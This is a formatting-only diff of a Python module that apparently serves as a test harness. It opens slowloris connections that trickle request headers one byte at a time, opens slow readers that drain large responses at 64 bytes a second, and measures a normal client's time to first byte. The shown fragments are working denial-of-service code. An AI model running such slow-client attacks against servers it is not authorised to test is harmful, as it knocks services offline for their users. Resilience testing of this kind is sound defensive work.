@@ -1,6 +1,7 @@
 """Slow clients, as an attacker runs them: slowloris connections that send their headers a byte at a time (and
 reconnect when the server drops them), and slow readers that ask for a large answer and read it a trickle at a
 time. One thread drives them all on non-blocking sockets; a normal client measures time to first byte."""
+
 from __future__ import annotations
 
 import socket
@@ -34,11 +35,16 @@ class Attack:
     _stop: threading.Event = field(default_factory=threading.Event)
     _thread: threading.Thread | None = None
 
-    def __enter__(self) -> "Attack":
+    def __enter__(self) -> Attack:
         header = f"GET / HTTP/1.1\r\nHost: {self.host}\r\nUser-Agent: slowloris\r\n".encode()
         self.conns = [Slow(header + b"X-a: " + b"b" * 10_000, True) for _ in range(self.loris)]
-        self.conns += [Slow(f"GET {self.reader_path} HTTP/1.1\r\nHost: {self.host}\r\nAccept-Encoding: identity"
-                            f"\r\n\r\n".encode(), False) for _ in range(self.readers)]
+        self.conns += [
+            Slow(
+                f"GET {self.reader_path} HTTP/1.1\r\nHost: {self.host}\r\nAccept-Encoding: identity\r\n\r\n".encode(),
+                False,
+            )
+            for _ in range(self.readers)
+        ]
         for c in self.conns:
             self._open(c)
         self._thread = threading.Thread(target=self._run, daemon=True)
@@ -73,7 +79,7 @@ class Attack:
                     continue
                 try:
                     if c.loris:
-                        c.sock.send(c.request[c.sent:c.sent + 1])
+                        c.sock.send(c.request[c.sent : c.sent + 1])
                         c.sent += 1
                     else:
                         chunk = c.sock.recv(64)  # 64 bytes a second
